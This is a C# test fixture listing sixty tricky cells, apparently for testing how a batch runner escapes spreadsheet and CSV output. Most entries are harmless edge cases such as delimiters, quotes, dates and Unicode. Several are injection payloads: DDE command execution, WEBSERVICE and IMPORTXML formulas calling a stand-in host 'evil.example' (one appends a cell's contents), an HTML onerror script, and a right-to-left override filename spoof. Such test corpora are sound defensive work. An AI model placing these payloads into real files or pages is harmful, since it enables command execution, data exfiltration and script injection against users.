namespace BatchRunner.Tests.Results;

/// <summary>Sixty cells that a spreadsheet, a CSV reader or a person's eye could take for something else than they are.</summary>
static class InjectionCorpus
{
    public static IReadOnlyList<string> Cells { get; } =
    [
        // What is run as a formula, plainly and in disguise.
        "=1+1", "=cmd|' /C calc'!A0", "+49 30 123456", "-5", "-1+1", "@SUM(A1:A9)", "=HYPERLINK(\"http://evil.example\",\"look\")",
        "=WEBSERVICE(\"http://evil.example/\"&A1)", "=IMPORTXML(\"http://evil.example\",\"//a\")", "+cmd|'/C calc'!A0", "  =1+1",
        "\t=1+1", "'=1+1", "''=1+1", "\"=1+1\"", "＝1+1", "＋1", "－1", "＠x", "\u200b=1", "\ufeff=1", "\u00a0=1", "=\"a\"&\"b\"", "\r=1",
        // What breaks records and fields.
        "a,b", "a;b", "a\tb", "say \"cheese\"", "\"", "\"\"", "a\nb", "a\n=b", "a\r\nb", "'", "''", "'tis the season", "a\\,b", "\\",
        // What is taken for a number, a date or a truth.
        "007", "00", "1e5", "4012345678901234567890", "0.10", "1,234.50", "1.234,50", "16:09", "1:2:3", "2026-11-20", "11/20/2026", "3-4", "1/2",
        "MARCH1", "TRUE", "#N/A", "#REF!", "NaN", "1_000",
        // What is hard to see, or wide, or in two halves.
        "名前 🎬 👩‍👩‍👧", "e\u0301 \u202egnp.exe", "<img src=x onerror=alert(1)> &amp; &lt;",
    ];
}
